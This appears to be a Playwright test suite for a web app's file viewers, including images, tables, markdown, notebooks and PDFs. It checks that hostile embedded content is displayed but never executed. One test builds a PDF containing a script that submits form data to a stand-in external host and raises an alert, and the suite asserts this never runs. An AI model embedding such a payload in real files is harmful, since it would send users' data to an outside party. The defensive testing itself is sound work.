"""Files that are more than text, seen as what they are; what is hostile in them runs nowhere."""

import re
from collections.abc import Iterator, Mapping

import pytest
from playwright.sync_api import Browser, Dialog, Locator, Page, expect

from tests.support import sample_files
from tests.support.server import Server
from tests.support.workbench import SignIn, Workbench, new_model, wait_until


@pytest.fixture
def asked(page: Page) -> list[str]:
    """The addresses that the page asks for."""
    addresses: list[str] = []
    page.on("request", lambda request: addresses.append(request.url))
    return addresses


@pytest.fixture
def hostile_page(browser: Browser, signed_in: SignIn) -> Iterator[Page]:
    """The browser names what it refuses of hostile HTML while it is parsed; that is no problem here."""
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    signed_in(page)
    yield page
    assert page.evaluate("window.pwned") is None
    assert [address for address in asked if "elsewhere" in address] == []
    context.close()


def put(server: Server, workbench: Workbench, files: Mapping[str, bytes]) -> None:
    model = workbench.model_url.rsplit("/", 1)[1]
    with server.client() as client:
        for name, content in files.items():
            reply = client.put(f"/api/v1/models/{model}/files/{name}", content=content, headers={"If-None-Match": "*"})
            reply.raise_for_status()


def read(server: Server, workbench: Workbench, name: str) -> bytes:
    model = workbench.model_url.rsplit("/", 1)[1]
    with server.client() as client:
        return client.get(f"/api/v1/models/{model}/files/{name}").content


def see(workbench: Workbench, name: str, what: str) -> Locator:
    """Opens it; the part of the page that shows it as what it is."""
    workbench.file(name).click()
    expect(workbench.tab(name)).to_be_visible()
    view = workbench.page.get_by_role("region", name=f"{what} of {name}", exact=True)
    expect(view).to_be_visible()
    return view


def test_images_and_sound_are_shown_and_bytes_are_what_is_left(server: Server, page: Page) -> None:
    workbench = new_model(page, name="Media", template="Linear regression")
    broken = b"\x89PNG\r\n\x1a\n\0\0 and no more"
    files = {
        "dots.png": sample_files.png(120, 80),
        "broken.png": broken,
        "tone.wav": sample_files.wav(1.5),
        "bad.svg": sample_files.HOSTILE_SVG,
        "array.npy": b"\x93NUMPY" + bytes(range(256)) * 80,
    }
    put(server, workbench, files)

    image = see(workbench, "dots.png", "Image")
    expect(image).to_contain_text(re.compile(r"120 \S 80 · .* · 100 %"))
    image.get_by_role("button", name="Larger").click()
    expect(image).to_contain_text("200 %")
    assert image.get_by_role("img").evaluate("image => image.clientWidth") == 240
    image.get_by_role("button", name="Fit").click()
    expect(image).to_contain_text("100 %")

    drawing = see(workbench, "bad.svg", "Image")
    expect(drawing).to_contain_text(re.compile(r"120 \S 80"))
    page.get_by_role("button", name="Open as text").click()
    expect(workbench.editor).to_contain_text("parent.pwned")
    assert page.evaluate("window.pwned") is None

    sound = see(workbench, "tone.wav", "Audio").locator("audio")
    wait_until(page, lambda: sound.evaluate("sound => sound.duration") == 1.5, what="the sound is known to last 1.5 s")

    expect(see(workbench, "broken.png", "Image")).to_contain_text("This browser cannot draw broken.png")
    expect(page.get_by_role("region", name="Content of broken.png")).to_contain_text("89 50 4e 47")

    numbers = see(workbench, "array.npy", "Bytes")
    expect(numbers).to_contain_text(re.compile(r"NumPy array[\s\S]*20,486 bytes"))
    numbers.get_by_role("button", name="Last").click()
    expect(page.get_by_role("region", name="Content of array.npy")).to_contain_text("00005000")
    assert numbers.get_by_role("link", name="Download").get_attribute("download") == "array.npy"


def test_a_table_is_read_as_one_scrolls_and_text_longer_than_the_editor_takes_in_parts(
    server: Server, page: Page, asked: list[str]
) -> None:
    workbench = new_model(page, name="Long", template="Linear regression")
    model = workbench.model_url.rsplit("/", 1)[1]
    with server.client() as client:
        client.patch(f"/api/v1/models/{model}", json={"limit_bytes": 128 * 2**20}).raise_for_status()
    rows = "".join(f'{number},"name, {number}",{number / 4}\r\n' for number in range(60_000))
    line = b"%07d of a log that is far too long to be edited in any page\n"
    log = b"".join(line % number for number in range(900_000))
    assert len(log) > 50 * 2**20
    put(server, workbench, {"data.csv": f"id,name,value\r\n{rows}".encode(), "long.log": log})

    table = see(workbench, "data.csv", "Table")
    expect(table.get_by_role("columnheader", name="value")).to_be_visible()
    expect(table.get_by_role("cell", name="name, 3", exact=True)).to_be_visible()
    assert table.get_by_role("row").count() < 80
    portions = len([address for address in asked if "data.csv" in address])
    frame = page.get_by_role("region", name="Rows of data.csv")

    def scrolled_to_the_end() -> bool:
        frame.evaluate("frame => frame.scrollTo(0, frame.scrollHeight)")
        return table.get_by_role("cell", name="name, 59999", exact=True).count() == 1

    wait_until(page, scrolled_to_the_end, what="the last row is there")
    expect(table.get_by_role("status")).to_contain_text("60,000 rows · 3 columns")
    assert len([address for address in asked if "data.csv" in address]) > portions
    page.get_by_role("button", name="Open as text").click()
    expect(workbench.editor).to_contain_text("id,name,value")
    expect(workbench.status_bar.get_by_role("button", name="Line ends, CRLF")).to_be_visible()

    view = see(workbench, "long.log", "Long text")
    expect(view.locator(".cm-content")).to_contain_text("0000000 of a log")
    view.get_by_role("button", name="End").click()
    expect(view.locator(".cm-content")).to_contain_text("0899999 of a log")
    view.get_by_role("button", name="Earlier").click()
    expect(view).to_contain_text(re.compile(r"part \d+ of \d+ · 9\d %"))


def test_markdown_is_seen_beside_its_text_and_leads_to_files(server: Server, hostile_page: Page) -> None:
    page = hostile_page
    workbench = new_model(page, name="Read", template="Linear regression")
    text = (
        "# Title\n\n![A picture](docs/pic.png)\n\n[the code](./main.py#L2)\n\n"
        f"```python\ndef f(x):\n    return 'x'\n```\n\n{sample_files.HOSTILE_HTML}"
    )
    model = workbench.model_url.rsplit("/", 1)[1]
    with server.client() as client:
        client.put(f"/api/v1/models/{model}/tree/docs").raise_for_status()
    put(server, workbench, {"docs/pic.png": sample_files.png(30, 20), "notes.md": text.encode()})

    workbench.open("notes.md")
    page.get_by_role("button", name="Both").click()
    preview = page.get_by_role("region", name="notes.md, as it reads")
    expect(preview.get_by_role("heading", name="Title")).to_be_visible()
    picture = preview.get_by_role("img", name="A picture")
    assert picture.evaluate("image => image.decode().then(() => image.naturalWidth)") == 30
    expect(preview.locator("pre span", has_text="def")).to_be_visible()
    expect(preview.get_by_role("link", name="Image: a pixel")).to_have_attribute("rel", "noopener noreferrer")
    expect(preview.locator("script, style, iframe, form, input, svg, [id], [onclick], [style]")).to_have_count(0)
    preview.get_by_text("Click me").click()

    workbench.editor.click()
    page.keyboard.press("Control+Home")
    page.keyboard.insert_text("# Typed\n\n")
    expect(preview.get_by_role("heading", name="Typed")).to_be_visible()
    preview.get_by_role("link", name="the code").click()
    expect(workbench.tab("main.py")).to_be_visible()
    expect(workbench.status_bar).to_contain_text("Ln 2, Col 1")


def test_a_notebook_and_a_document_are_read_without_running_anything(server: Server, hostile_page: Page) -> None:
    page = hostile_page
    workbench = new_model(page, name="Documents", template="Linear regression")
    script = "this.submitForm('http://elsewhere.invalid/'); app.alert(1)"
    document = sample_files.pdf(text="Read me", script=script.replace("(", r"\(").replace(")", r"\)"))
    put(server, workbench, {"study.ipynb": sample_files.notebook(), "paper.pdf": document, "bad.ipynb": b"{broken"})

    notebook = see(workbench, "study.ipynb", "Notebook")
    expect(notebook.get_by_role("heading", name="A notebook")).to_be_visible()
    expect(notebook.get_by_role("cell", name="0.25")).to_be_attached()
    expect(notebook.locator("pre span", has_text="def")).to_be_attached()
    expect(notebook.get_by_role("img", name="<Figure>")).to_be_attached()
    error = notebook.get_by_role("region", name=re.compile("Output 7"))
    expect(error).to_contain_text("ZeroDivisionError: division by zero")
    assert "\x1b" not in (error.text_content() or "")
    expect(notebook).to_contain_text("not shown here (application/javascript)")
    expect(notebook.locator("script, style, iframe, form, input, [id], [onclick]")).to_have_count(0)
    expect(see(workbench, "bad.ipynb", "Notebook")).to_contain_text("Expected JSON")

    dialogs: list[str] = []

    def refuse(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", refuse)
    paper = see(workbench, "paper.pdf", "Pages")
    expect(paper.get_by_role("group", name="Page 1 of 1")).to_contain_text("Read me")
    drawn = "canvas => canvas.getContext('2d').getImageData(60, 180, 1, 1).data.slice(0, 3).join(' ')"
    assert paper.locator("canvas").evaluate(drawn) == "26 128 153"
    assert dialogs == []


def test_text_keeps_its_encoding_and_line_ends_until_a_person_changes_them(server: Server, page: Page) -> None:
    workbench = new_model(page, name="Encoded", template="Linear regression")
    western = "name\r\ncafé 10 €\r\n".encode("cp1252")
    put(server, workbench, {"western.txt": western, "wide.txt": "héllo\n".encode("utf-16")})
    status = workbench.status_bar

    def choose(item: str, *labels: str) -> None:
        status.get_by_role("button", name=re.compile(item)).click()
        for label in labels:
            page.get_by_role("menuitem", name=label, exact=True).click()

    def saved_as(name: str, content: bytes) -> None:
        wait_until(page, lambda: read(server, workbench, name) == content, what=f"{name} is saved as {content!r}")

    workbench.open("wide.txt")
    expect(status.get_by_role("button", name="Encoding, UTF-16 LE")).to_be_visible()
    workbench.open("western.txt")
    expect(status.get_by_role("button", name="Encoding, Western (Windows-1252)")).to_be_visible()
    expect(status.get_by_role("button", name="Line ends, CRLF")).to_be_visible()
    workbench.editor.click()
    page.keyboard.press("Control+Home")
    page.keyboard.insert_text("ü\n")
    workbench.save("western.txt")
    saved_as("western.txt", b"\xfc\r\n" + western)

    page.keyboard.insert_text("日")
    page.keyboard.press("Control+s")
    expect(page.get_by_text(re.compile("has no “日” .line 2, column 1.")).first).to_be_visible()
    saved_as("western.txt", b"\xfc\r\n" + western)
    page.keyboard.press("Backspace")
    workbench.save("western.txt")

    choose("Line ends", "LF (Linux, macOS)")
    choose("Encoding", "Save with another encoding…", "UTF-8 with BOM")
    saved_as("western.txt", "\ufeffü\nname\ncafé 10 €\n".encode())
    choose("Encoding", "Reopen with another encoding…", "UTF-16 LE")
    expect(page.get_by_text(re.compile("is not UTF-16 LE"))).to_be_visible()
    choose("Indentation", "Indent with tabs, 8 wide")
    expect(status.get_by_role("button", name="Indentation, Tabs: 8")).to_be_visible()
